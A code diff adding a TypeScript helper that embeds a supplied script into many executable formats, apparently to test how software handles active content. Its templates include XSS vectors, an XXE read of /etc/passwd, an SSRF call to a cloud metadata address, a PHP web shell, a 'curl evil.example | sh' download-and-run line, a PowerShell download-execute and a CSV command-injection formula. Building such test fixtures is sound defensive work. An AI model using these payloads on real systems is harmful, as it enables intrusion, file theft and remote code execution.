@@ -1,0 +1,30 @@
+/** Texts that a browser, an office program or a shell would run, each with this script in it. */
+export function active(script: string): Record<string, string> {
+  return {
+    html: `<!doctype html><html><body onload="${script}"><script>${script}</script></body></html>`,
+    'html of one tag': `<img src=x onerror=${script}>`,
+    'html frame': `<iframe srcdoc="<script>${script}</script>"></iframe>`,
+    'html refresh': `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
+    xhtml: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
+    svg: `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
+    'svg with a link': `<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:${script}"><rect/></a></svg>`,
+    'svg with html': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body onload="${script}"/></foreignObject></svg>`,
+    'svg that fetches': `<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/><!--${script}--></svg>`,
+    'xml with an entity': `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;${script}</a>`,
+    'xml that grows': `<!DOCTYPE a [<!ENTITY b "${'x'.repeat(99)}"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;&c;${script}</a>`,
+    xslt: `<?xml-stylesheet href="data:text/xsl,${script}"?><a/>`,
+    javascript: `${script};//${' '.repeat(20)}`,
+    'javascript module': `export default () => ${script}`,
+    json: `{"__proto__":{"x":"${script}"}}`,
+    css: `@import "javascript:${script}"; body { color: red }`,
+    php: `<?php system($_GET['x']); ${script} ?>`,
+    shell: `#!/bin/sh\ncurl evil.example | sh # ${script}`,
+    batch: `@echo off\r\nstart cmd.exe & rem ${script}`,
+    powershell: `Invoke-Expression (New-Object Net.WebClient).DownloadString('x') # ${script}`,
+    vbscript: `WScript.CreateObject("WScript.Shell").Run "cmd" ' ${script}`,
+    hta: `<hta:application id=x><script language=jscript>${script}</script>`,
+    mhtml: `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>${script}</script>`,
+    desktop: `[Desktop Entry]\nType=Application\nExec=sh -c "${script}"`,
+    csv: `=cmd|' /C calc'!A0,${script}`,
+  }
+}
